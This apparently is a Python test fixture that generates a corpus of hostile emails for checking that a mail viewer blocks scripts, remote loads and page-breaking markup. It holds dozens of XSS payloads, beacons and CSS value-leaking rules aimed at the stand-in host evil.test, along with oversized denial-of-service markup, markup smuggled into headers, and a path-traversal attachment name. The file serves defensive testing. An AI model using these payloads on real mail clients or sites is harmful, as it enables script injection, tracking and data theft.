"""Mail that tries to run, to load, to leave its frame, or to stop the page.

Whatever runs says `RUNS` in the console and asks `evil.test`; whatever is loaded asks `evil.test`.
"""

import base64
from email.message import EmailMessage

RUNS = "it runs"
JS = f"console.log('{RUNS}');new Image().src='http://evil.test/ran'"
EVIL = "http://evil.test"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script></svg>'
SVG_URL = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()
HTML_URL = "data:text/html;base64," + base64.b64encode(f"<script>{JS}</script>".encode()).decode()

_SCRIPTS = {
    "script": f"<script>{JS}</script>",
    "script in upper case": f"<ScRiPt>{JS}</sCrIpT >",
    "script without an end": f"<script>{JS}",
    "module": f'<script type="module">{JS}</script>',
    "script from elsewhere": f'<script src="{EVIL}/a.js"></script>',
    "script of the page": '<script src="/web/app.js" type="module"></script>',
    "script as data": f'<script src="data:text/javascript,{JS}"></script>',
    "import map": f'<script type="importmap">{{"imports":{{"a":"{EVIL}/a.js"}}}}</script>',
    "speculation rules": f'<script type="speculationrules">{{"prerender":[{{"urls":["{EVIL}/s"]}}]}}</script>',
    "img onerror": f'<img src="x:" onerror="{JS}">',
    "img onload": f'<img src="{SVG_URL}" onload="{JS}">',
    "body onload": f'<body onload="{JS}" onpageshow="{JS}">x',
    "svg onload": f'<svg onload="{JS}"></svg>',
    "svg script": f"<svg><script>{JS}</script></svg>",
    "svg script href": f'<svg><script href="{EVIL}/a.js"></script></svg>',
    "svg animate": f'<svg><animate onbegin="{JS}" attributeName="x" dur="1s"></svg>',
    "svg set on a link": '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
    "svg foreign object": f'<svg><foreignObject><body onload="{JS}"><img src=x: onerror="{JS}"></body></foreignObject></svg>',
    "svg use": f'<svg><use href="{SVG_URL}#x"/></svg>',
    "input autofocus": f'<input autofocus onfocus="{JS}">',
    "select autofocus": f'<select autofocus onfocus="{JS}"></select>',
    "details": f'<details open ontoggle="{JS}">x</details>',
    "video": f'<video autoplay onloadstart="{JS}"><source onerror="{JS}" src=x:></video>',
    "audio": f'<audio src="x:" onerror="{JS}"></audio>',
    "style onload": f'<style onload="{JS}">p{{}}</style>',
    "animation": f'<style>@keyframes a{{}}p{{animation:a 1s}}</style><p onanimationstart="{JS}">x',
    "marquee": f'<marquee onstart="{JS}">x</marquee>',
    "scroll end": f'<body onscrollend="{JS}" onresize="{JS}" onmouseover="{JS}">x',
    "javascript frame": f'<iframe src="javascript:{JS}"></iframe>',
    "srcdoc": f'<iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;"></iframe>',
    "srcdoc that connects": f'<iframe srcdoc="&lt;link rel=preconnect href={EVIL}&gt;"></iframe>',
    "frame with data": f'<iframe src="{HTML_URL}"></iframe>',
    "object with data": f'<object data="{HTML_URL}"></object>',
    "embed with SVG": f'<embed src="{SVG_URL}" type="image/svg+xml">',
    "picture that is SVG": f'<img src="{SVG_URL}">',
    "nested mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={JS}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x: onerror={JS}>">',
    "textarea": f'<textarea><img title="</textarea><img src=x: onerror={JS}>"></textarea>',
    "comment": f"<!--><script>{JS}</script>-->",
    "conditional comment": f"<!--[if true]><script>{JS}</script><![endif]-->",
    "shadow root": f'<div><template shadowrootmode="open"><script>{JS}</script><img src=x: onerror="{JS}"></template></div>',
    "NUL in a tag": f"<scr\0ipt>{JS}</script><img src=x: on\0error={JS}>",
    "slashes in a tag": f'<img/src="x:"/onerror="{JS}">',
    "no quotes": f"<img src=x: onerror={JS.replace(' ', '/**/')}>",
    "entities": f'<a href="&#106;avascript&colon;{JS}">x</a>',
    "xml": f'<?xml-stylesheet href="{EVIL}/x.xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{JS}</script></html>',
    "event on a popover": f'<div popover id=p onbeforetoggle="{JS}">x</div><button popovertarget=p autofocus onfocus="{JS}">y</button>',
}

_LOADS = {
    "img": f'<img src="{EVIL}/a.png">',
    "img without a scheme": '<img src="//evil.test/a.png">',
    "img by TLS": '<img src="https://evil.test/a.png">',
    "srcset": f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">',
    "picture": f'<picture><source srcset="{EVIL}/a.webp"><img src="{EVIL}/a.png"></picture>',
    "input image": f'<input type="image" src="{EVIL}/a.png">',
    "backgrounds": f'<body background="{EVIL}/a.png"><table background="{EVIL}/b.png"><tr><td background="{EVIL}/c.png">x</table>',
    "media": f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4" autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio><video><track src="{EVIL}/t.vtt" default></video>',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}/a.css">',
    "hints": "".join(
        f'<link rel="{rel}" href="{EVIL}/{rel}">'
        for rel in (
            "preconnect",
            "dns-prefetch",
            "prefetch",
            "prerender",
            "modulepreload",
            "icon",
            "manifest",
            "alternate stylesheet",
            "next",
        )
    ),
    "preload": "".join(
        f'<link rel="preload" as="{kind}" href="{EVIL}/{kind}">'
        for kind in ("image", "style", "script", "font", "fetch")
    ),
    "hint behind a slash": f'<link/rel="preconnect"/href="{EVIL}">',
    "hint in a template": f'<template><link rel=preconnect href="{EVIL}"></template><noscript><link rel=preconnect href="{EVIL}"></noscript>',
    "import": f'<style>@import "{EVIL}/a.css";@import url({EVIL}/b.css);</style>',
    "CSS pictures": f'<style>p{{background:url({EVIL}/a);list-style:url({EVIL}/b);cursor:url({EVIL}/c),auto;border-image:url({EVIL}/d) 1;mask:url({EVIL}/e);content:url({EVIL}/f);filter:url({EVIL}/g#x);shape-outside:url({EVIL}/h);background:image-set("{EVIL}/i" 1x)}}</style><p>x',
    "font": f"<style>@font-face{{font-family:f;src:url({EVIL}/f.woff2)}}p{{font-family:f}}</style><p>x",
    "style attribute": f'<p style="background:url({EVIL}/a)">x',
    "CSS that reads": "".join(
        f'<style>input[value^="{c}"]{{background:url({EVIL}/{c})}}</style>' for c in "abc"
    )
    + '<input value="abc">',
    "frame": f'<iframe src="{EVIL}/f"></iframe>',
    "frames": f'<frameset cols="*"><frame src="{EVIL}/f"></frameset>',
    "object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e"><applet code="{EVIL}/a"></applet>',
    "SVG pictures": f'<svg><image href="{EVIL}/a"/><filter><feImage href="{EVIL}/b"/></filter><use href="{EVIL}/c#x"/></svg>',
    "manifest": f'<html manifest="{EVIL}/m">x',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/r">',
    "refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    "refresh to the page": '<meta http-equiv="refresh" content="0;url=/">',
    "own policy": f'<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'"><img src="{EVIL}/a">',
    "prefetch of names": '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="//evil.test/">x</a>',
    "base": f'<base href="{EVIL}/"><img src="a.png"><a href="b">x</a>',
    "base target": f'<base target="_top"><a href="{EVIL}/">x</a>',
    "form": f'<form action="{EVIL}/f" id=f><input name=a value=b><button autofocus>go</button></form>',
    "form to a script": f'<form action="javascript:{JS}"><button autofocus>go</button></form>',
    "form to the API": '<form action="/api/v1/messages" method="post" enctype="text/plain"><input name=a><button>go</button></form>',
    "the page in a frame": '<iframe src="/"></iframe><iframe src="/api/v1/messages"></iframe>',
    "the API as a picture": '<img src="/api/v1/messages"><link rel=stylesheet href="/api/v1/messages">',
    "a cookie": '<meta http-equiv="set-cookie" content="a=b">',
    "a portal": f'<portal src="{EVIL}/p"></portal><fencedframe src="{EVIL}/q"></fencedframe>',
    "a ping": f'<a href="#x" ping="{EVIL}/ping">x</a>',
}

_STOPS = {
    "cover": '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">x</div>',
    "hide": "<style>*{display:none!important}</style>x",
    "deep": "<div>" * 10_000 + "x",
    "deep table": "<table><tr><td>" * 500 + "x",
    "long line": "x" * 2_100_000,
    "many pictures": '<img src="cid:logo">' * 5_000,
    "many links": "<a <a href=" * 10_000,
    "many attributes": "<p " + "a" * 100_000 + " b=c" * 10_000 + ">x",
    "unclosed": "<b><i><u><a href='x'>" * 1_000,
    "animations": "<style>@keyframes a{to{transform:rotate(1turn)}}b{display:block;animation:a .01s infinite}</style>"
    + "<b>x</b>" * 100,
    "dialog": "<dialog open style='width:100vw;height:100vh'>x</dialog>",
    "wide": '<div style="width:99999999px;height:99999999px">x</div>',
    "marks of direction": "\u202e" * 1000 + "exe.doc\u2066x",
    "UTF-7": "+ADw-script+AD4-console.log('it runs')+ADw-/script+AD4-",
}


def _html(body, subject):
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "a@x.test", "b@y.test", subject
    made.set_content("text\n")
    made.add_alternative(body, subtype="html", cte="base64")
    return made.as_bytes()


def _linked(body, kind, content):
    head = b"From: a@x.test\r\nTo: b@y.test\r\nSubject: related\r\nMIME-Version: 1.0\r\n"
    head += (
        b"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
    )
    part = b"\r\n--b\r\nContent-Type: %b\r\nContent-ID: <logo>\r\n\r\n" % kind.encode()
    return head + body.encode() + part + content.encode() + b"\r\n--b--\r\n"


def _head(*fields, body=b"x"):
    lines = [one if isinstance(one, bytes) else one.encode() for one in fields]
    return b"\r\n".join([b"From: a@x.test", b"To: b@y.test", *lines, b"", body]) + b"\r\n"


_MARKUP = f'"><img src=x: onerror="{JS}"><script>{JS}</script>'


def _others():
    tag = f"<script>{JS}</script>"
    yield "markup in a subject", _head(f"Subject: {_MARKUP}")
    yield (
        "markup in names",
        _head(
            f'From: "{tag}" <evil@x.test>',
            f'To: "{tag}" <b@y.test>',
            f"Cc: {_MARKUP}",
            "Subject: s",
        ),
    )
    yield (
        "markup in fields",
        _head(f"X-{tag}: {_MARKUP}", f"Message-ID: <{_MARKUP}>", f"Date: {_MARKUP}", "Subject: s"),
    )
    yield "markup in tags", _head(f"X-Tags: {_MARKUP}, a", "Subject: s")
    yield "markup in a type", _head("Subject: s", f'Content-Type: text/html; charset="{_MARKUP}"')
    yield "markup in a text", _head("Subject: s", body=f"{_MARKUP}\r\njavascript:{JS}".encode())
    yield "script to unsubscribe", _head(f"List-Unsubscribe: <javascript:{JS}>", "Subject: s")
    yield (
        "marks of direction in a subject",
        _head("Subject: \u202eexe.doc\u202c \u2066x \0 \x1b[31m \x07".encode()),
    )
    yield "a long subject", _head("Subject: " + "\r\n ".join(["x" * 900] * 100))
    yield "many fields", _head(*[f"X-{n}: {tag}" for n in range(1000)], "Subject: s")
    yield (
        "many people",
        _head("Cc: " + ",\r\n ".join(f'"{tag}" <a{n}@x.test>' for n in range(1000)), "Subject: s"),
    )
    yield "no fields", b"\r\n\r\n\r\n"
    yield (
        "a picture with a script",
        _linked(
            '<img src="cid:logo"><object data="cid:logo"></object><iframe src="cid:logo"></iframe>',
            "image/svg+xml",
            SVG,
        ),
    )
    yield (
        "a picture that is HTML",
        _linked('<img src="cid:logo"><iframe src="cid:logo"></iframe>', "text/html", tag),
    )
    yield "HTML as the picture's type", _linked('<img src="cid:logo">', 'image/png"><script>', tag)
    yield (
        "HTML in UTF-16",
        _head(
            "Subject: s",
            "MIME-Version: 1.0",
            "Content-Type: text/html; charset=utf-16",
            "Content-Transfer-Encoding: base64",
            body=base64.encodebytes(tag.encode("utf-16")),
        ),
    )
    files = EmailMessage()
    files["From"], files["To"], files["Subject"] = "a@x.test", "b@y.test", "files"
    files.set_content("x")
    for name, kind in (
        ("a.html", "text/html"),
        ("a.svg", "image/svg+xml"),
        ("a.js", "text/javascript"),
        ("a.xhtml", "application/xhtml+xml"),
        (f"../../{tag}.txt", "text/plain"),
        ("\u202excod.exe", "image/png"),
    ):
        files.add_attachment(tag.encode(), *kind.split("/"), filename=name)
    yield "active files", files.as_bytes()


def corpus():
    """Return the mails by what they try."""
    html = {**_SCRIPTS, **_LOADS, **_STOPS}
    return {**{name: _html(body, name) for name, body in html.items()}, **dict(_others())}


CONTROL = f"<!doctype html><title>control</title><script>{JS}</script>".encode()
